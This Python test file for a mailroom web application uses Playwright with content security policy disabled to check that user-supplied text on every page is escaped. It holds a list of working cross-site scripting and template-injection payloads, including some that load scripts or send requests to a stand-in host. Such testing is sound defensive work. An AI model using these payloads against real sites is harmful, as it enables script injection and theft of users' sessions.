"""Words that would act if a page took them for markup, by every way on which a stranger's or a colleague's words reach
a page, in a real browser whose content security policy is switched off: escaping alone must hold.

Nothing may run, be asked for elsewhere or become an element, and the words must be read as they were written.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
from fpdf import FPDF
from playwright.sync_api import Page, expect
from sample_letters import DISCOUNT, UNCLEAR
from visitors import PASSWORD

from mailroom.desk.accounts import Post, join
from mailroom.desk.back_office import allocate, close_case
from mailroom.desk.correcting import correct, correct_received
from mailroom.desk.emergency import break_glass
from mailroom.desk.minding import bring_forward, write_note
from mailroom.desk.proof import state_purpose
from mailroom.desk.referring import refer
from mailroom.desk.signing_in import person_of, sign_in
from mailroom.domain.access import Role, Viewer
from mailroom.domain.capture import Channel, Receipt
from mailroom.duties.send_acknowledgements import send_acknowledgements
from mailroom.records.tables import Item
from mailroom.services import Services
from mailroom.web.language import LANGUAGES

RUN = "top.canary=1;fetch('//canary.example/')"
PAYLOADS = {
    "script": f"<script data-canary>{RUN}</script>",
    "script from elsewhere": "<script data-canary src=//canary.example/x.js></script>",
    "script in capitals": f"<ScRiPt/data-canary>{RUN}</sCrIpT >",
    "image": f"<img data-canary src=x onerror={RUN}>",
    "image without a gap": f"<img/data-canary/src=x/onerror={RUN}>",
    "svg": f"<svg data-canary onload={RUN}>",
    "svg script": f"<svg data-canary><script>{RUN}</script></svg>",
    "svg animation": f"<svg data-canary><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "math": f"<math data-canary><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "nested, changed by parsing": "<form data-canary><math><mtext></form><form><mglyph><style></math>"
    f'<img src="x" onerror="{RUN}">',
    "noscript": f'<noscript><p title="</noscript><img data-canary src=x onerror={RUN}>">',
    "comment": f"--><img data-canary src=x onerror={RUN}><!--",
    "out of a double quote": f'"><img data-canary src=x onerror={RUN}>',
    "out of a single quote": f"'><img data-canary src=x onerror={RUN}>",
    "attribute by double quote": f'" data-canary autofocus onfocus="{RUN}" x="',
    "attribute by single quote": f"' data-canary autofocus onfocus='{RUN}' x='",
    "end of script": f"</script><script data-canary>{RUN}</script>",
    "end of textarea": f"</textarea><img data-canary src=x onerror={RUN}>",
    "end of title": f"</title><script data-canary>{RUN}</script>",
    "end of select": f"</option></select><img data-canary src=x onerror={RUN}>",
    "end of pre": f"</pre></q></td><img data-canary src=x onerror={RUN}>",
    "link that runs": f"javascript:{RUN}//",
    "link that runs, written in": f'<a data-canary href="javascript:{RUN}">please press</a>',
    "data address": "data:text/html,<script data-canary>top.canary=1</script>",
    "template": "{{ 7*191 }}{% set canary = 7*191 %}${7*191}<%= 7*191 %>",
    "format": "{0.__class__} {who} {name!r} %(name)s %s 100%",
    "style": "<style data-canary>@import '//canary.example/x.css';body{background:url(//canary.example/x)}</style>",
    "frame": f"<iframe data-canary srcdoc='<script>{RUN}</script>'></iframe>",
    "refresh": "<meta data-canary http-equiv=refresh content='0;url=//canary.example/'>",
    "base": "<base data-canary href=//canary.example/>",
    "form": "<form data-canary action=//canary.example/><button autofocus>Send</button>",
    "form taken over": '<button data-canary form="decide" formaction="//canary.example/">Go</button>',
    "object": "<object data-canary data=//canary.example/x></object><embed data-canary src=//canary.example/x>",
    "escaped already": f"&lt;img data-canary src=x onerror={RUN}&gt;&#60;script&#62;",
    "escaped for scripts": rf"\u003cimg data-canary src=x onerror={RUN}\u003e\x3cscript\x3e",
    "other brackets": f"\uff1cscript data-canary\uff1e{RUN}\uff1c/script\uff1e\u2039img\u203a",
}
STATE = """() => ({
  ran: 'canary' in window,
  marked: [...document.querySelectorAll('[data-canary]')].map(e => e.outerHTML.slice(0, 200)),
  leads: [...document.querySelectorAll('[href], [src], [action], [formaction], [data]')]
    .flatMap(e => ['href', 'src', 'action', 'formaction', 'data'].map(name => e.getAttribute(name) ?? ''))
    .filter(where => /^\\s*(javascript|vbscript|data:text|[/\\\\]{2}|https?:..canary)/i.test(where)),
  worked: document.documentElement.innerText.includes('1337') || document.title.includes('1337'),
  words: [document.body.innerText, ...[...document.querySelectorAll('input, textarea')].map(e => e.value)]
    .join(' ').replace(/\\s+/g, ' '),
})"""
CLERK = Viewer("clerk", frozenset({Role.POST_ROOM}))
BOSS = Viewer("boss", frozenset({Role.ADMINISTRATOR}))
OFFICER = Viewer("officer", frozenset({Role.BACK_OFFICE}), frozenset({"revenues"}))
AUDITOR = Viewer("ada", frozenset({Role.AUDITOR}))
NAMES = list(PAYLOADS)
HANDFULS = [NAMES[begin : begin + 6] for begin in range(0, len(NAMES), 6)]
Letters = dict[str, Item]


def words_of(*names: str) -> str:
    """The payloads of these names in one line."""
    return "  ".join(PAYLOADS[name] for name in names)


ADDRESSES = (
    ("/sign-in?next={}", True),
    ("/nowhere/{}", False),
    ("/post-room?cause={}&suggested={}", False),
    ("/teams/revenues?show={}", False),
    ("/audit?words={}", True),
    ("/audit?first={}&channel={}&state={}", False),
    ("/performance?first={}", False),
)
"""Ways on which a link brings words to a page, and whether it shows them as they are."""


@dataclass
class Watch:
    """A window, and whatever in it went beyond showing words.

    Attributes:
        page: the window.
        home: the address of the pages.
        found: what happened that should not.
    """

    page: Page
    home: str
    found: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", lambda dialog: (self.found.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.context.on("request", lambda request: self._came(request.url))
        self.page.context.on("page", lambda other: self.found.append(f"window {other.url}"))

    def open(self, path: str, *names: str) -> None:
        """Open a page; the words of these payloads must stand on it."""
        answer = self.page.goto(path)
        if answer is not None and answer.status >= 500:
            self.found.append(f"{path} answers {answer.status}")
        self.look(path, *names)

    def open_list(self, path: str, *names: str) -> None:
        """Open the first two pages of a list, on one of which each of these payloads must stand."""
        words = ""
        for number in "12":
            self.page.goto(path + number)
            words += self.look(path + number)
        self.found += [f"{path} does not show {name}" for name in names if PAYLOADS[name] not in words]

    def look(self, where: str, *names: str) -> str:
        """Look at the page as it is now; returns its words."""
        told: Any = self.page.evaluate(STATE)
        self.found += [f"{where}: {what} {told[what]}" for what in ("ran", "marked", "leads", "worked") if told[what]]
        self.found += [f"{where} does not show {name}" for name in names if PAYLOADS[name] not in told["words"]]
        return str(told["words"])

    def send(self, selector: str, **values: str) -> None:
        """Fill in fields of the form around the selector and send it as its button would."""
        with self.page.expect_navigation():
            self.page.locator(selector).first.evaluate(SEND, values)

    def _came(self, address: str) -> None:
        if not address.startswith((self.home, "blob:", "data:image/")):
            self.found.append(f"asked for {address}")


SEND = """(start, values) => {
  const form = start.form ?? start.closest('form');
  for (const [name, value] of Object.entries(values)) form.elements[name].value = value;
  form.submit();
}"""


@pytest.fixture
def watch(open_as: Callable[..., Page], services: Services) -> Iterator[Callable[..., Watch]]:
    """Signs somebody in at a window that is watched: `watch("kim", Role.POST_ROOM)`; nothing found fails no test."""
    watches: list[Watch] = []

    def begin(name: str, *roles: Role, **options: Any) -> Watch:  # noqa: ANN401  # the library's own
        page = open_as(name, *roles, bypass_csp=True, **options)
        watches.append(Watch(page, services.settings.web.address))
        return watches[-1]

    yield begin
    assert [found for one in watches for found in one.found] == []


@pytest.fixture
def unclear(deliver: Callable[..., Receipt], travel: Callable[..., Item], services: Services) -> Letters:
    """Letters that nobody could sort, each with a payload in text, file's name, sender, note and reason."""
    later = services.now() - timedelta(hours=1)
    letters = {}
    for name, words in PAYLOADS.items():
        content = UNCLEAR + words.encode()
        letters[name] = travel(deliver(content, file_name=words, received_at=later - timedelta(days=1)).item_id)
        correct(letters[name].id, "sender_name", words, CLERK, services)
        correct_received(letters[name].id, later, CLERK, services, reason=words)
        refer(letters[name].id, words, CLERK, services)
    return letters


@pytest.fixture
def settled(deliver: Callable[..., Receipt], travel: Callable[..., Item], services: Services) -> Letters:
    """Letters that Revenues has, each with a payload in text, file's name, sender, officer and what is waited for."""
    letters = {}
    for number, (name, words) in enumerate(PAYLOADS.items()):
        letters[name] = travel(deliver(DISCOUNT + words.encode(), file_name=words).item_id)
        correct(letters[name].id, "sender_name", words, CLERK, services)
        bring_forward(letters[name].id, services.now().date() + timedelta(days=3), words, OFFICER, services)
        join(f"officer{number}", words, Post(frozenset({Role.BACK_OFFICE}), frozenset({"revenues"})), BOSS, services)
        allocate(letters[name].id, f"officer{number}", OFFICER, services)
    return letters


def test_in_the_post_room(watch: Callable[..., Watch], unclear: Letters) -> None:
    kim = watch("kim", Role.POST_ROOM)
    for name, letter in unclear.items():
        kim.open(f"/items/{letter.id}", name)
    kim.open_list("/post-room?page=", *NAMES)
    kim.open("/dates", *NAMES)


def test_on_the_bench_with_words_that_were_read_from_a_picture(
    watch: Callable[..., Watch], deliver: Callable[..., Receipt], travel: Callable[..., Item]
) -> None:
    kim = watch("kim", Role.POST_ROOM)
    for name in ("script", "image", "out of a double quote", "end of textarea"):
        item = travel(deliver(_paper(PAYLOADS[name]), file_name="letter.pdf").item_id)
        kim.open(f"/items/{item.id}")
        kim.page.wait_for_selector("#bench[data-words]", state="attached")
        kim.page.locator("#field-sender_name").focus()
        kim.page.locator(".mr-word").first.click(force=True)
        expect(kim.page.locator("#said")).to_contain_text("corrected")
        kim.page.locator("#other-words").fill(PAYLOADS[name])
        kim.page.keyboard.press("w")
        kim.look("the bench", name)


def test_in_a_mail_as_it_was_formatted(
    watch: Callable[..., Watch], deliver: Callable[..., Receipt], travel: Callable[..., Item]
) -> None:
    kim = watch("kim", Role.POST_ROOM)
    head = b"From: a@b.example\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    for name, words in PAYLOADS.items():
        mail = head + f"<p>Dear council</p>{words}<p>and so on</p>".encode()
        item = travel(deliver(mail, channel=Channel.EMAIL, file_name="mail.eml").item_id)
        kim.open(f"/items/{item.id}?formatted=1")
        kim.open(f"/items/{item.id}/pages/1/formatted")
        assert "Dear council" in kim.page.locator("body").inner_text(), name


def _paper(words: str) -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=14)
    pdf.multi_cell(0, 8, f"{words}\n\nWhat about it?")
    return bytes(pdf.output())


def test_in_a_team_and_for_the_auditor(watch: Callable[..., Watch], settled: Letters, services: Services) -> None:
    sam = watch("sam", Role.BACK_OFFICE, teams=("revenues",))
    sam.open_list("/teams/revenues?show=brought_forward&page_number=", *NAMES)
    for name, letter in settled.items():
        close_case(letter.id, words_of(name), services.now(), OFFICER, services)
        sam.open(f"/cases/{letter.id}", name)
    ada = watch("ada", Role.AUDITOR)
    ada.open("/audit?words=discount")
    for name, letter in settled.items():
        state_purpose(letter.id, "audit", AUDITOR, services)
        ada.open(f"/audit/{letter.id}", name)


def test_in_what_an_officer_writes(
    watch: Callable[..., Watch],
    deliver: Callable[..., Receipt],
    travel: Callable[..., Item],
    services: Services,
    step: Callable[[timedelta], None],
) -> None:
    case = f"/cases/{travel(deliver(DISCOUNT).item_id).id}"
    for words in PAYLOADS.values():
        write_note(case.rpartition("/")[2], words, OFFICER, services)
    sam, everything = watch("sam", Role.BACK_OFFICE, teams=("revenues",)), words_of(*NAMES)
    sam.open(case, *NAMES)
    sam.open(f"{case}/reply?template=answer")
    sam.page.locator("[name=fill-answer]").fill(everything)
    expect(sam.page.locator("#draft pre")).to_contain_text(PAYLOADS["base"])
    sam.look("the draft", *NAMES)
    sam.page.goto(case)
    sam.send("#return-words", belongs_to=everything, words=everything)
    sam.look("a return that is refused", *NAMES)
    sam.page.goto(case)
    step(timedelta(hours=14))
    sam.send("#note-text", text=everything)
    sam.send("#name", name=everything, password="wrong")  # that it is wrong is meant
    sam.look("a wrong name", *NAMES)
    sam.send("#name", name="sam", password=PASSWORD)
    sam.look("what was kept", *NAMES)


def test_in_mail(watch: Callable[..., Watch], deliver: Callable[..., Receipt], travel: Callable[..., Item]) -> None:
    kim = watch("kim", Role.POST_ROOM)
    for names in HANDFULS:
        known: dict[str, Any] = {"channel": Channel.EMAIL, "file_name": "m.eml", "proven_sender": "a@b.example"}
        kim.open(f"/items/{travel(deliver(_mail(words_of(*names)), **known).item_id).id}", *names)


def _mail(words: str) -> bytes:
    encoded = "".join(f"={byte:02X}" for byte in words.encode())
    head = f"From: =?utf-8?Q?{encoded}?= <a@b.example>\r\nSubject: =?utf-8?Q?{encoded}?=\r\n"
    return f"{head}Content-Type: text/plain; charset=utf-8\r\n\r\nI do not know {words}\r\n".encode()


def test_for_the_administrator(watch: Callable[..., Watch], member: Callable[..., str], services: Services) -> None:
    bo = watch("bo", Role.ADMINISTRATOR)
    known = NAMES[::3]
    for number, words in enumerate(PAYLOADS[name] for name in known):
        join(f"person{number}", words, Post(frozenset({Role.POST_ROOM})), BOSS, services)
    token = sign_in(member("kim", Role.POST_ROOM), PASSWORD, "", services)
    person = person_of(token, services)
    assert person is not None
    for words in PAYLOADS.values():
        token, _ = break_glass(token, words.ljust(15), person, services)
    bo.open("/accounts", *known)
    bo.open("/accounts/kim", *NAMES)
    bo.open("/accounts/person0", NAMES[0])
    bo.open("/health")
    bo.page.goto("/accounts/new")
    bo.send("#name", name=words_of(*NAMES), display_name=words_of(*NAMES))
    bo.look("a name that is refused", *NAMES)


@pytest.mark.parametrize("language", LANGUAGES)
def test_in_the_address_and_in_what_a_browser_brings_back(
    watch: Callable[..., Watch], deliver: Callable[..., Receipt], travel: Callable[..., Item], language: str
) -> None:
    case = f"/cases/{travel(deliver(DISCOUNT).item_id).id}"
    kim = watch("kim", Role.POST_ROOM, Role.BACK_OFFICE, Role.AUDITOR, teams=("revenues",))
    kim.page.context.add_cookies([{"name": "language", "value": language, "url": kim.home}])
    for names in HANDFULS[:5] if language == "en" else HANDFULS[5:]:
        words = quote(words_of(*names), safe="")
        for path, shows in (*ADDRESSES, (case + "?back={}", False), (case + "/reply?template=answer&back={}", True)):
            kim.open(path.format(words, words, words), *(names if shows else ()))
        kim.page.context.add_cookies([{"name": "notice", "value": words, "url": kim.home}])
        kim.open("/me", *names)
    kim.open(f"{case}?back={quote(PAYLOADS['link that runs'])}")


def test_in_the_names_of_files_that_are_taken_in(watch: Callable[..., Watch]) -> None:
    kim = watch("kim", Role.POST_ROOM)
    files = [PAYLOADS[name] for name in NAMES if "/" not in PAYLOADS[name] and "\\" not in PAYLOADS[name]]
    kim.page.goto("/upload")
    sent: Any = [{"name": name, "mimeType": "text/plain", "buffer": name.encode()} for name in files]
    kim.page.set_input_files("#upload input[type=file]", sent)
    kim.page.locator("#upload").evaluate("form => form.requestSubmit()")
    expect(kim.page.locator("#taken a")).to_have_count(len(files), timeout=60_000)
    kim.look("files taken in", *(name for name in NAMES if PAYLOADS[name] in files))


def test_in_the_addresses_of_letters_to_print(
    watch: Callable[..., Watch],
    deliver: Callable[..., Receipt],
    travel: Callable[..., Item],
    services: Services,
    step: Callable[[timedelta], None],
) -> None:
    for names in HANDFULS[:5]:
        item = travel(deliver(DISCOUNT + words_of(*names).encode()).item_id)
        for known in ("sender_name", "sender_address"):
            correct(item.id, known, words_of(*names), CLERK, services)
            travel(item.id)
    step(timedelta(minutes=11))
    send_acknowledgements(services)
    watch("kim", Role.POST_ROOM).open("/letters", *NAMES[:30])


def test_a_page_that_did_take_words_for_markup_would_still_run_nothing(open_as: Callable[..., Page]) -> None:
    page = open_as("kim", Role.POST_ROOM)
    asked: list[str] = []
    page.goto("/me")
    page.context.on("request", lambda request: asked.append(request.url))
    stays = "".join(
        words for name, words in PAYLOADS.items() if name != "refresh"
    )  # a policy keeps no page from leading on
    page.evaluate("words => document.querySelector('main').insertAdjacentHTML('beforeend', words)", stays)
    page.evaluate("run => document.body.append(Object.assign(document.createElement('script'), {text: run}))", RUN)
    page.wait_for_timeout(300)
    assert page.locator("[data-canary]").count() > 10
    assert page.evaluate("'canary' in window") is False
    assert [address for address in asked if not address.startswith(page.url.removesuffix("/me"))] == []
